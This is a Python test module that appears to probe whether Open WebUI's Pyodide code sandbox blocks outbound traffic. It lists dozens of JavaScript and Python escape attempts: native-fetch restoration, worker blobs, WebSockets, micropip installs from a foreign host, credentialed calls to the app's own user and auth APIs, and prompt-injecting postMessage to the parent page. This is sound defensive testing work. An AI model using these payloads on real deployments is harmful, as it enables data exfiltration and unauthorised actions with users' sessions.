"""Every way we know by which code in the interpreter could send something away.

The code runs in Pyodide. Each way tries on its own and carries `MARK-<way>` to the foreign address or to the
Open WebUI server itself; what it printed says how each attempt ended.
"""

# ruff: noqa: E501 (the hostile texts are clearer in one line each)

from __future__ import annotations

JS_WAYS = {
    "fetch": "fetch(T+'/MARK-fetch',{method:'POST',body:'x'})",
    "fetch-opaque": "fetch(T+'/MARK-fetch-opaque',{mode:'no-cors',method:'POST',body:'x'})",
    "fetch-native": "Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self,T+'/MARK-fetch-native')",
    "fetch-native-2": "WorkerGlobalScope.prototype.fetch.call(self,T+'/MARK-fetch-native-2')",
    "fetch-deleted": "(delete self.fetch, self.fetch(T+'/MARK-fetch-deleted'))",
    "fetch-keepalive": "new Promise(r=>r(fetch(T+'/MARK-fetch-keepalive',{keepalive:true,mode:'no-cors'})))",
    "xhr": "new Promise(r=>{const x=new XMLHttpRequest();x.open('GET',T+'/MARK-xhr');x.onloadend=r;x.send()})",
    "xhr-sync": "(()=>{const x=new XMLHttpRequest();x.open('POST',T+'/MARK-xhr-sync',false);x.send('x')})()",
    "websocket": "new Promise(r=>{const w=new WebSocket(T.replace('http','ws')+'/MARK-websocket');"
    "w.onopen=()=>{w.send('MARK-websocket');r()};w.onerror=r})",
    "websocket-stream": "new WebSocketStream(T.replace('http','ws')+'/MARK-websocket-stream').opened",
    "eventsource": "new Promise(r=>{const e=new EventSource(T+'/MARK-eventsource');e.onopen=e.onerror=r})",
    "webtransport": "new WebTransport(T.replace('http:','https:')+'/MARK-webtransport').ready",
    "import-scripts": "importScripts(T+'/MARK-import-scripts.js')",
    "import": "import(T+'/MARK-import.js')",
    "import-by-blob": "import(URL.createObjectURL(new Blob([`import '${T}/MARK-import-by-blob.js'`],"
    "{type:'text/javascript'})))",
    "worker": "new Promise(r=>{const w=new Worker(T+'/MARK-worker.js');w.onmessage=w.onerror=r})",
    "worker-blob": "new Promise(r=>{const w=new Worker(URL.createObjectURL(new Blob(["
    "`fetch('${T}/MARK-worker-blob',{mode:'no-cors'}).finally(()=>postMessage(1))`])));w.onmessage=w.onerror=r})",
    "worker-blob-import": "new Promise(r=>{const w=new Worker(URL.createObjectURL(new Blob(["
    "`try{importScripts('${T}/MARK-worker-blob-import.js')}catch{}postMessage(1)`])));w.onmessage=w.onerror=r})",
    "worker-data": "new Promise(r=>{const w=new Worker('data:text/javascript,'+encodeURIComponent("
    "`fetch('${T}/MARK-worker-data',{mode:'no-cors'}).finally(()=>postMessage(1))`));w.onmessage=w.onerror=r})",
    "shared-worker": "new SharedWorker(T+'/MARK-shared-worker.js')",
    "cache-add": "caches.open('c').then(c=>c.add(T+'/MARK-cache-add'))",
    "beacon": "navigator.sendBeacon(T+'/MARK-beacon','x')",
    "font": "new FontFace('f',`url(${T}/MARK-font)`).load()",
    "image": "new Promise(r=>{const i=new Image();i.onload=i.onerror=r;i.src=T+'/MARK-image'})",
    "realm-iframe": "new Promise(r=>{const f=document.createElement('iframe');document.body.append(f);"
    "r(f.contentWindow.fetch(T+'/MARK-realm-iframe',{mode:'no-cors'}))})",
    "webrtc": "new RTCPeerConnection({iceServers:[{urls:'stun:'+T.slice(7)}]})",
    "wasm-streaming": "WebAssembly.compileStreaming(fetch(T+'/MARK-wasm-streaming'))",
    "open-window": "self.open(T+'/MARK-open-window').closed",
    "navigate": "(()=>{self.location.href=T+'/MARK-navigate'})()",
    "notification": "new Notification('x',{icon:T+'/MARK-notification'})",
    "background-fetch": "navigator.serviceWorker.register(T+'/MARK-background-fetch.js')",
    "storage-api": "fetch(O+'/api/v1/auths/?MARK-storage-api',{credentials:'include'})",
    "own-api": "fetch(O+'/api/v1/notes/create',{method:'POST',credentials:'include',mode:'no-cors',"
    "body:JSON.stringify({title:'MARK-own-api'})})",
    "own-api-native": "WorkerGlobalScope.prototype.fetch.call(self,O+'/api/v1/notes/?MARK-own-api-native',"
    "{mode:'no-cors',credentials:'include'})",
    "own-api-xhr": "(()=>{const x=new XMLHttpRequest();x.open('GET',O+'/api/v1/users/?MARK-own-api-xhr',false);"
    "x.send()})()",
    "own-socket": "new Promise(r=>{const w=new WebSocket(O.replace('http','ws')+"
    "'/ws/socket.io/?EIO=4&transport=websocket&MARK-own-socket');w.onopen=w.onerror=r})",
    "own-static": "import(O+'/pyodide/pyodide.mjs?MARK-own-static')",
    "own-static-fetch": "WorkerGlobalScope.prototype.fetch.call(self,O+'/pyodide/x?MARK-own-static-fetch')",
    "port": "port.postMessage({type:'asset',name:'../api/v1/MARK-port'})",
    "parent": "parent.postMessage({type:'input:prompt:submit',text:'MARK-parent'},'*')",
    "page-message": "self.postMessage({type:'input:prompt:submit',text:'MARK-page-message'})",
    "late-timer": "setTimeout(()=>{for(const f of [self.fetch,WorkerGlobalScope.prototype.fetch]){"
    "try{f.call(self,T+'/MARK-late-timer',{mode:'no-cors'}).catch(()=>0)}catch{}}},9000)",
    "late-interval": "setInterval(()=>{try{new WebSocket(T.replace('http','ws')+'/MARK-late-interval')}catch{}},3000)",
}

PYTHON_WAYS = {
    "py-pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(T + '/MARK-py-pyfetch')",
    "py-open-url": "from pyodide.http import open_url\nopen_url(T + '/MARK-py-open-url')",
    "py-requests": "import requests\nrequests.get(T + '/MARK-py-requests', timeout=5)",
    "py-urllib": "import urllib.request\nurllib.request.urlopen(T + '/MARK-py-urllib', timeout=5)",
    "py-urllib3": "import urllib3\nurllib3.PoolManager().request('GET', T + '/MARK-py-urllib3', timeout=5)",
    "py-httpx": "import httpx\nhttpx.get(T + '/MARK-py-httpx', timeout=5)",
    "py-socket": "import socket\nsocket.create_connection(('127.0.0.1', int(T.rsplit(':')[-1])), timeout=5)"
    ".send(b'MARK-py-socket')",
    "py-micropip": "import micropip\nawait micropip.install(T + '/MARKpymicropip-1.0-py3-none-any.whl')",
    "py-micropip-index": "import micropip\nawait micropip.install('left-pad-mark', index_urls=T + '/MARK-py-index')",
    "py-load-package": "import pyodide_js\nawait pyodide_js.loadPackage(T + '/MARK-1.0-py3-none-any.whl')",
    "py-pandas": "import pandas\npandas.read_csv(T + '/MARK-py-pandas.csv')",
    "py-js-xhr": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', T + '/MARK-py-js-xhr', False)\nx.send()",
    "py-run-js": "from pyodide.code import run_js\nawait run_js(f\"fetch('{T}/MARK-py-run-js')\")",
    "py-run-js-import": "from pyodide.code import run_js\nawait run_js(f\"import('{T}/MARK-py-run-js-import.js')\")",
    "py-run-sync": "from pyodide.ffi import run_sync\nimport js\n"
    "run_sync(js.WorkerGlobalScope.prototype.fetch.call(js.self, T + '/MARK-py-run-sync'))",
    "py-atexit": "import atexit, js\natexit.register(lambda: js.fetch(T + '/MARK-py-atexit'))",
}

_HARNESS = """
import asyncio, json
import js
T, O = {target!r}, {own!r}
js.self.T, js.self.O = T, O
_js_ways = json.loads({js_ways!r})
_python_ways = json.loads({python_ways!r})
_outcome = {{}}
from pyodide.code import eval_code_async
async def _attempt(name, work):
    try:
        await asyncio.wait_for(work(), 4)
        _outcome[name] = "done"
    except BaseException as error:
        _outcome[name] = type(error).__name__ + ": " + str(error).strip().splitlines()[-1][:120] if str(error).strip() else type(error).__name__
for _name, _text in _js_ways.items():
    async def _work():
        value = js.eval(_text)
        if hasattr(value, "then"):
            await value
    await _attempt(_name, _work)
for _name, _text in _python_ways.items():
    await _attempt(_name, lambda: eval_code_async(_text, {{"T": T, "O": O}}))
print(json.dumps(_outcome))
"""


def hostile_code(target: str, own: str) -> str:
    """The program; `target` is a foreign origin, `own` the origin of the Open WebUI page."""
    import json

    return _HARNESS.format(
        target=target, own=own, js_ways=json.dumps(JS_WAYS), python_ways=json.dumps(PYTHON_WAYS)
    )
